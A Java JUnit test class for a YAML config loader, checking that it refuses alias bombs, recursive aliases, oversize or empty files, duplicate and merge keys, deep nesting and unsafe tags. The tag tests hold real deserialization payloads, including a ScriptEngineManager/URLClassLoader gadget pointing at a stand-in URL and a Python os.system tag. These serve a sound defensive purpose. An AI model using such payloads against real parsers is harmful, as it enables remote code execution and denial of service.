package keeper.config.yaml.internal;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import keeper.api.ConfigProblem;

class YamlFileTest extends ConfigDirFixture {

    @Test
    void aliasBombIsRefusedQuickly() {
        Path file = dir.write("bomb.yml",
                "a: &a [x, x, x, x, x, x, x, x, x]",
                "b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]",
                "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]",
                "d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]",
                "e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]",
                "f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]",
                "g: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f]");
        ConfigProblem problem = assertTimeoutPreemptively(Duration.ofSeconds(5),
                () -> Problem.thrownBy(() -> YamlFile.load(file)).get(0));
        assertTrue(problem.message().contains("aliases"), problem.toString());
    }

    @Test
    void aFewAliasesOfValuesAreFine() throws Exception {
        Path file = dir.write("ok.yml", "a: &dir /srv", "b: *dir");
        assertEquals(2, YamlFile.load(file).getValue().size());
    }

    @Test
    void recursiveAliasIsRefused() {
        Path file = dir.write("loop.yml", "command: x", "environment: &e", "  A: *e");
        Problem.single(() -> YamlFile.load(file), file, 2, null, "anchored here");
    }

    @Test
    void oversizeFileIsRefusedBeforeParsing() throws Exception {
        Path file = root.resolve("big.yml");
        Files.writeString(file, "# padding\n".repeat(YamlFile.MAX_BYTES / 10 + 1));
        assertTrue(Files.size(file) > YamlFile.MAX_BYTES);
        Problem.single(() -> YamlFile.load(file), file, 0, null, "larger than 1048576 bytes");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "# only a comment", "   "})
    void emptyFileIsRefused(String content) throws Exception {
        Path file = Files.writeString(root.resolve("empty.yml"), content);
        Problem.single(() -> YamlFile.load(file), file, 0, null, "empty file");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "command: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]",
        "command: !!python/object/apply:os.system [ls]",
        "command: !custom x",
        "command: !!binary aGVsbG8=",
        "command: !!set {a, b}",
        "command: !!str [a]"})
    void tagsOtherThanPlainOnesAreRefused(String line) {
        Path file = dir.write("tag.yml", "shell: true", line);
        List<ConfigProblem> problems = Problem.thrownBy(() -> YamlFile.load(file));
        Problem.matches(problems.get(0), file, 2, null, "is not allowed");
    }

    @Test
    void duplicateKeysAreRefused() {
        Path file = dir.write("dup.yml", "command: a", "shell: true", "command: b");
        Problem.single(() -> YamlFile.load(file), file, 3, "command", "appears twice");
    }

    @Test
    void mergeKeysAreRefused() {
        Path file = dir.write("merge.yml", "base: &b {shell: true}", "child:", "  <<: *b");
        Problem.single(() -> YamlFile.load(file), file, 3, null, "merge keys");
    }

    @Test
    void syntaxErrorNamesItsLine() {
        Path file = dir.write("broken.yml", "command: x", "output:", "  - stdout: [unclosed");
        List<ConfigProblem> problems = Problem.thrownBy(() -> YamlFile.load(file));
        assertEquals(1, problems.size());
        assertTrue(problems.get(0).message().startsWith("not valid YAML"), problems.toString());
        assertTrue(problems.get(0).line() >= 3, problems.toString());
    }

    @Test
    void twoDocumentsAreRefused() {
        Path file = dir.write("two.yml", "command: a", "---", "command: b");
        Problem.single(() -> YamlFile.load(file), file, 2, null, "not valid YAML");
    }

    @ParameterizedTest
    @ValueSource(strings = {"- a\n- b", "just text", "~"})
    void topLevelMustBeAMapping(String content) throws Exception {
        Path file = Files.writeString(root.resolve("list.yml"), content);
        Problem.single(() -> YamlFile.load(file), file, 1, null, "must be a mapping");
    }

    @Test
    void tooDeepNestingIsRefused() {
        Path file = dir.write("deep.yml", "a: " + "[".repeat(100) + "]".repeat(100));
        Problem.single(() -> YamlFile.load(file), file, 0, null, "Nesting Depth exceeded");
    }

    @Test
    void directoryIsNotAFile() throws Exception {
        Path directory = Files.createDirectory(root.resolve("d.yml"));
        Problem.single(() -> YamlFile.load(directory), directory, 0, null, "not a regular file");
    }
}
